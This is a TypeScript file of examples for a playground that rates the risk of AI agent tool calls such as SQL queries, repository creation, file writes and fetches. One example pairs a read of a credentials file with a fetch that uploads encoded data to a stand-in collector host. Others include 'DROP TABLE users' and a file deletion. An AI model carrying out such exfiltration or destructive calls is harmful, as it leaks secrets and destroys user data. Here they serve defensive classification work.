/**
 * Examples from the specification, one click away. Each is a complete
 * playground state; the page renders them as links (`?server=…`), so they
 * also work as shared addresses, and the script applies them in place.
 */
import type { PlaygroundState } from './state.ts';

/** One example: what to click, what it shows, and the state it sets. */
export interface Example {
  id: string;
  /** The link text. */
  label: string;
  /** What to look for, in one short sentence. */
  note: string;
  state: PlaygroundState;
}

const json = (value: unknown): string => JSON.stringify(value, null, 2);

/** The examples, in the order the page lists them. */
export const EXAMPLES: readonly Example[] = [
  {
    id: 'sqlite-select',
    label: 'SELECT through sqlite write_query',
    note: 'The read-only SQL rule fires: R0.',
    state: { server: 'sqlite', tool: 'write_query', args: json({ query: 'SELECT * FROM users WHERE id = 1' }), steps: [], allow: [] },
  },
  {
    id: 'sqlite-drop',
    label: 'DROP TABLE through sqlite write_query',
    note: 'The rule does not fire, so the base class R4 stands.',
    state: { server: 'sqlite', tool: 'write_query', args: json({ query: 'DROP TABLE users' }), steps: [], allow: [] },
  },
  {
    id: 'github-private',
    label: 'github create_repository, private: true',
    note: 'A private repository in your own account: R1.',
    state: { server: 'github', tool: 'create_repository', args: json({ name: 'scratch', private: true }), steps: [], allow: [] },
  },
  {
    id: 'github-public',
    label: 'github create_repository, private: false',
    note: 'A public repository: anyone can read it at once, R4. (Omitting private is R1: the server creates it private.)',
    state: { server: 'github', tool: 'create_repository', args: json({ name: 'scratch', private: false }), steps: [], allow: [] },
  },
  {
    id: 'filesystem-write',
    label: 'filesystem write_file',
    note: 'Overwrites without a copy: R4 from the record.',
    state: { server: 'filesystem', tool: 'write_file', args: json({ path: 'notes/todo.md', content: 'Buy milk' }), steps: [], allow: [] },
  },
  {
    id: 'fetch-after-read',
    label: 'A fetch after a read',
    note: 'The session guard raises an R0 fetch to R4; allow the host to clear it.',
    state: {
      server: 'fetch',
      tool: 'fetch',
      args: json({ url: 'https://collector.example/upload?d=c2VjcmV0' }),
      steps: [{ server: 'filesystem', tool: 'read_text_file', arguments: { path: 'notes/credentials.txt' } }],
      allow: ['docs.python.org'],
    },
  },
  {
    id: 'unknown-tool',
    label: 'An unknown tool',
    note: 'A tool no record lists is R4 until classified.',
    state: { server: 'filesystem', tool: 'delete_file', args: json({ path: 'notes/todo.md' }), steps: [], allow: [] },
  },
];

/** Pasted calls for the paste box: a Claude Code hook payload and an MCP request. */
export const PASTE_EXAMPLES = {
  hook: json({
    session_id: 'example',
    hook_event_name: 'PreToolUse',
    tool_name: 'mcp__sqlite__write_query',
    tool_input: { query: 'DROP TABLE users' },
  }),
  toolsCall: json({
    jsonrpc: '2.0',
    id: 1,
    method: 'tools/call',
    params: { name: 'create_repository', arguments: { name: 'scratch', private: true } },
  }),
} as const;
